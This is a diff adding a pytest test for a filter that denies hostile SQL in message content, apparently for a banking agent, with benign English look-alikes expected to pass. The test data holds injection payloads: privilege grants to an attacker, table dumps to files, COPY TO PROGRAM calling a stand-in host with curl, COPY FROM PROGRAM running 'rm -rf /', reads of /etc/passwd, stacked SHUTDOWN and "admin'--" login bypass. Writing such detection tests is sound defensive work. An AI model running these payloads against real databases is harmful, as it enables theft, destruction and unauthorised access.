@@ -639,3 +639,55 @@ def test_a_delete_whose_filter_is_always_true_is_denied(content: str, verdict: s
 def test_an_update_of_money_or_access_is_denied(content: str, verdict: str | None) -> None:
     expected = "allow" if verdict is None else f"SQL in message content: {verdict}"
     assert reason(SqlBlock(), msg(content)) == expected
+
+
+@pytest.mark.parametrize(
+    ("content", "verdict"),
+    [
+        # access handed out, rows written out of the database, server files read
+        ("GRANT ALL PRIVILEGES ON *.* TO 'attacker'@'%'", "GRANT of privileges"),
+        ("grant all on accounts to public;", "GRANT of privileges"),
+        ("GRANT SELECT, INSERT ON TABLE customers TO intruder", "GRANT of privileges"),
+        ("SELECT * FROM customers INTO OUTFILE '/tmp/c.csv'", "written to a file"),
+        ("select pan from kyc into dumpfile '/var/www/x'", "written to a file"),
+        ("COPY customers TO '/tmp/c.csv'", "written to a file"),
+        ("COPY (SELECT * FROM accounts) TO PROGRAM 'curl evil.example'", "written to a file"),
+        ("copy accounts to stdout", "written to a file"),
+        ("COPY audit FROM PROGRAM 'rm -rf /'", "written to a file"),
+        ("SELECT LOAD_FILE('/etc/passwd')", "server file read"),
+        ("select pg_read_file('/etc/passwd')", "server file read"),
+        ("DROP PROCEDURE transfer_funds", "DROP"),
+        ("drop function if exists calc_interest;", "DROP"),
+        ("DROP TRIGGER audit_log", "DROP"),
+        ("'; SHUTDOWN --", "stacked query"),
+        ("1; SHUTDOWN WITH NOWAIT", "SHUTDOWN"),
+        ("x; shutdown;", "SHUTDOWN"),
+        ("admin'--", "quote then comment"),
+        ("username: admin' -- password: x", "quote then comment"),
+        # English of the same words
+        ("grant me a loan", None),
+        ("Please grant me a loan of 5 lakh", None),
+        ("Kindly grant access on my account to my spouse", None),
+        ("Grant all rights on the flat to my son", None),
+        ("copy to my account", None),
+        ("Copy to my account the statement please", None),
+        ("please copy the statement to my email", None),
+        ("copy this to 'Savings' folder", None),
+        ("I want to drop procedure fees from the loan", None),
+        ("What's the procedure to drop my locker?", None),
+        ("We'll shut down the branch; shutdown on Sunday", None),
+        ("Load file failed when I uploaded my KYC", None),
+        ("our clients'-- especially seniors -- asked", None),
+        ("He said 'no'-- then left", None),
+        ("the outfile of the report is ready", None),
+    ],
+)
+def test_sql_that_grants_access_or_writes_data_out_is_denied(
+    content: str, verdict: str | None
+) -> None:
+    """Access granted, rows written to a file or a program, a server file read, a routine
+    dropped, the server shut down, a password check commented out."""
+    expected = "allow" if verdict is None else f"SQL in message content: {verdict}"
+    assert reason(SqlBlock(), msg(content)) == expected
+    planned = PolicyPlan([SqlBlock()]).decide(msg(content), "agent")
+    assert ("allow" if planned.allowed else planned.reason) == expected
